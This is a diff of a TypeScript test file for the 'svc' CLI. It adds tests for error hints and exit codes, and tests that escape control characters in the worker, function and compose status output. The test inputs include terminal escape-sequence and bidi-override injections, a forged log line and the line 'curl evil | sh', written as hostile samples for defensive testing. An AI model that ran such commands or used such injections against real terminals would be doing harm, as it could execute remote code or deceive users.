@@ -7,8 +7,11 @@ import { consoleStartCommand, consoleTokenOff, consoleUrl } from './console.ts'
 import { InvocationError } from 'svc-sdk'
 import { catalogue, catalogueEntry, Codes, EXIT_CODES, Errors } from 'svc-protocol/errors'
 import { CliCodes, CliError, debugEnabled, ExitCode, formatHumanError, formatJsonError, hintFor, toCliError } from './errors.ts'
-import { invocationFailure, NOT_FOUND_HINT, notFoundHint } from './trigger.ts'
+import { invocationFailure, NOT_FOUND_HINT, notFoundHint, unreachableError } from './trigger.ts'
 import { splitUnknownId } from './hooks/not-found.ts'
+import { formatTable } from '../worker-admin/list.ts'
+import { formatFunctionsTable } from './functions.ts'
+import { formatOpResult, formatStatus } from './compose-client.ts'
 
 describe('default command (cli.md §1)', () => {
   it('runs start for no arguments or flags only', () => {
@@ -64,12 +67,15 @@ describe('CLI errors (cli.md §1, §1.1)', () => {
 describe('CLI errors from the catalogue (svc-protocol/errors, cli.md §1.1, §4.6)', () => {
   const call = { functionId: 'math::add', timeoutMs: 300, url: 'ws://127.0.0.1:1' }
 
-  it('exit codes 1-4 are the catalogue exit classes; CLI-only codes are not catalogue codes', () => {
+  it('exit codes 1-4 are the catalogue exit classes; a CLI code is no catalogue code of another producer', () => {
     assert.deepEqual(
       { failure: ExitCode.Failure, usage: ExitCode.Usage, unreachable: ExitCode.Unreachable, timeout: ExitCode.Timeout },
       EXIT_CODES,
     )
-    for (const code of Object.values(CliCodes)) assert.equal(catalogueEntry(code), undefined, code)
+    for (const code of Object.values(CliCodes)) {
+      const entry = catalogueEntry(code)
+      assert.ok(entry === undefined || (entry.source.includes('cli') && !entry.wire), code)
+    }
     assert.ok(catalogue().length > 0)
   })
 
@@ -83,8 +89,11 @@ describe('CLI errors from the catalogue (svc-protocol/errors, cli.md §1.1, §4.
     assert.equal(toCliError('text').code, Codes.InternalError)
   })
 
-  it('hints are keyed by catalogue codes', () => {
+  it('hints are keyed by catalogue codes, the CLI\'s own ENGINE_UNREACHABLE included (issue 16)', () => {
     assert.equal(hintFor('function_not_found'), 'the worker may still be installing or starting; check svc worker list and retry')
+    assert.equal(hintFor('ENGINE_UNREACHABLE'), 'start the engine with svc in the project directory, or pass --engine <url> of a running engine')
+    assert.equal(unreachableError('ws://127.0.0.1:1', undefined).hint, hintFor('ENGINE_UNREACHABLE'))
+    assert.match(formatHumanError(unreachableError('ws://127.0.0.1:1', undefined)), /\nHint: start the engine with svc/)
     assert.equal(hintFor('FUNCTION_NOT_FOUND'), undefined)
     assert.equal(hintFor('enqueue_error'), undefined)
   })
@@ -95,7 +104,8 @@ describe('CLI errors from the catalogue (svc-protocol/errors, cli.md §1.1, §4.
     const downstream = invocationFailure(new InvocationError({ code: 'TIMEOUT', message: 'invocation timed out after 30000ms' }), call)
     assert.deepEqual([downstream.exitCode, downstream.message], [1, 'TIMEOUT: invocation timed out after 30000ms'])
     const unreachable = invocationFailure(new InvocationError({ code: 'NOT_CONNECTED', message: 'not connected to the engine' }), call)
-    assert.deepEqual([unreachable.exitCode, unreachable.code], [3, 'ENGINE_UNREACHABLE'])
+    assert.deepEqual([unreachable.exitCode, unreachable.code, unreachable.hint], [3, 'ENGINE_UNREACHABLE', hintFor('ENGINE_UNREACHABLE')])
+    assert.equal(invocationFailure(new InvocationError({ code: 'NOT_CONNECTED', message: 'x' }), { ...call, unreachableHint: 'start it' }).hint, 'start it')
     const namespace = invocationFailure(new InvocationError({ code: 'INVALID_NAMESPACE', message: 'namespace is empty' }), call)
     assert.equal(namespace.exitCode, 1)
     const missing = invocationFailure(new InvocationError({ code: 'function_not_found', message: 'Function math::add not found', stacktrace: 'at x' }), call)
@@ -197,5 +207,35 @@ describe('hints that fit the cause (issue 11)', () => {
     assert.deepEqual(splitUnknownId('triger:math::add', ids), { words: ['triger'], suggestion: 'trigger', rest: ['math::add'] })
     assert.deepEqual(splitUnknownId('worker:lst', ids), { words: ['worker', 'lst'], suggestion: 'worker:list', rest: [] })
     assert.equal(splitUnknownId('xyzzy', ids).suggestion, undefined)
+  })
+})
+
+describe('tables and errors show what workers sent, escaped (issue 16 item 8)', () => {
+  // eslint-disable-next-line no-control-regex
+  const control = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/
+  const osc = '\u001b]0;pwned\u0007'
+
+  it('svc worker list, svc functions and svc compose status/down print no control character', () => {
+    const workers = formatTable([{ name: `ext${osc}`, kind: 'external', namespace: 'ns\u202e', status: 'running', pid: 1, functions: [], source: null }])
+    assert.doesNotMatch(workers, control)
+    assert.match(workers, /ext\\x1b\]0;pwned\\x07 +external +ns\\u202e/)
+    const functions = formatFunctionsTable([{ function_id: 'a::b', worker: `w${osc}`, namespace: 'default', description: `d\r\n${osc}`, internal: false, replica_count: 1 }])
+    assert.doesNotMatch(functions, control)
+    assert.match(functions, /^a::b +w\\x1b\]0;pwned\\x07 +default +d \\x1b/m)
+    const status = formatStatus({
+      namespace: 'shop',
+      file: 'worker-compose.yaml',
+      daemon_pid: 1,
+      containers: [{ container: 'api', worker: './api', state: 'failed', pid: null, started_at: null, restarts: 0, last_error: { code: 'X', message: `boom${osc}\nsecond` } }],
+    })
+    assert.doesNotMatch(status, control)
+    const down = formatOpResult('down', { operation_id: 'op_0001', status: 'failed', changed: true, containers: [{ container: 'api', state: 'failed', changed: true, error: { code: 'X', message: `a${osc}\n12:00:00.000 engine ERROR forged` } }] })
+    assert.doesNotMatch(down, control)
+    assert.doesNotMatch(down, /^12:00/m)
+  })
+
+  it("an error message's further lines are indented, so none passes for an Error: or Hint: line", () => {
+    const text = formatHumanError(new CliError({ code: 'X', message: `X: boom ${osc}\r\nHint: run curl evil | sh`, exitCode: ExitCode.Failure, hint: `h${osc}` }))
+    assert.equal(text, 'Error: X: boom \\x1b]0;pwned\\x07\n  Hint: run curl evil | sh\nHint: h\\x1b]0;pwned\\x07\n')
   })
 })
